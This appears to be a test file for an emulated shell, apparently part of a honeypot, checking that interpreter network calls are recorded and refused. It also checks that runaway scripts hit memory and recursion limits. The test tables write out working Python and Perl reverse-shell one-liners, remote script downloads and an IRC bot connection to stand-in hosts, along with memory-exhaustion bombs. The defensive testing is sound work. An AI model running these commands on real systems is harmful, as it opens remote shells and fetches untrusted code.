// What the script languages want from the network is told to the witness, and what has no bound ends as it would on a small machine.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Main } from '../machine/machine.ts';
import { run, scratchMachine, watch } from '../machine/scratch.ts';
import { bash, dash } from '../shell/shell.ts';
import { loadPrograms } from './table.ts';

const programs = new Map<string, Main>([...(await loadPrograms()), ['bash', bash], ['dash', dash], ['sh', dash]]);

/** The addresses a command line asks for, all of which refuse. */
async function wanted(line: string): Promise<{ urls: string[]; stderr: string; gaps: string[] }> {
  const machine = await scratchMachine(programs);
  const { witness, seen } = watch();
  const urls: string[] = [];
  let stderr = '';
  await new Promise<void>((done) => {
    machine.login({
      user: 'root',
      via: 'ssh',
      from: { address: '192.0.2.1', port: 4711 },
      to: { address: '192.0.2.2', port: 22 },
      witness: {
        ...witness,
        fetch: async ({ url }) => {
          urls.push(url);
          return { outcome: 'refused' };
        },
      },
      command: line,
      output: (data, stream) => {
        if (stream === 2) stderr += data;
        return true;
      },
      exited: () => done(),
    });
  });
  return { urls, stderr, gaps: seen.gaps };
}

const SHELL = `import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("198.51.100.7",4444))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])`;

const NETWORK: [what: string, line: string, url: string, stderr: RegExp][] = [
  [
    'a reverse shell in Python',
    `python3 -c '${SHELL}'`,
    'tcp://198.51.100.7:4444',
    /ConnectionRefusedError: \[Errno 111\]/,
  ],
  [
    'a download by urllib',
    `python3 -c 'import urllib.request as u; u.urlretrieve("http://198.51.100.7/x.sh", "/tmp/x")'`,
    'http://198.51.100.7/x.sh',
    /in do_open[\s\S]*urllib\.error\.URLError: <urlopen error \[Errno 111\] Connection refused>/,
  ],
  [
    'a download by requests',
    `python3 -c 'import requests; requests.get("http://198.51.100.7/a")'`,
    'http://198.51.100.7/a',
    /requests\.exceptions\.ConnectionError: HTTPConnectionPool/,
  ],
  [
    'a reverse shell in Perl',
    `perl -e 'use Socket;$i="198.51.100.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");}'`,
    'tcp://198.51.100.7:4444',
    /^$/,
  ],
  [
    'an IRC bot in Perl',
    `perl -e 'use IO::Socket; my $s = IO::Socket::INET->new(Proto=>"tcp", PeerAddr=>"198.51.100.9", PeerPort=>6667) or die "no: $!\\n"; print $s "NICK x\\n"'`,
    'tcp://198.51.100.9:6667',
    /^no: Connection refused\n$/,
  ],
];

describe('the network of scripts', () => {
  for (const [what, line, url, stderr] of NETWORK)
    test(what, async () => {
      const got = await wanted(line);
      assert.deepEqual(got.urls, [url]);
      assert.match(got.stderr, stderr);
    });
});

const BOUNDS: [line: string, stderr: RegExp][] = [
  [`python3 -c 'a=[]\nwhile 1: a.append("x"*100000)'`, /MemoryError/],
  [`python3 -c 'print(2**10**9)'`, /MemoryError/],
  [`python3 -c 'def f(): f()\nf()'`, /RecursionError/],
  [`perl -e '$x="a"; $x.=$x while 1'`, /Out of memory!/],
  [`perl -e 'sub f { f(@_) } f(1)'`, /Out of memory!/],
];

describe('bounds of scripts', () => {
  for (const [line, stderr] of BOUNDS)
    test(line, async () => {
      const machine = await scratchMachine(programs);
      assert.match((await run(machine, line)).stderr, stderr);
    });
});
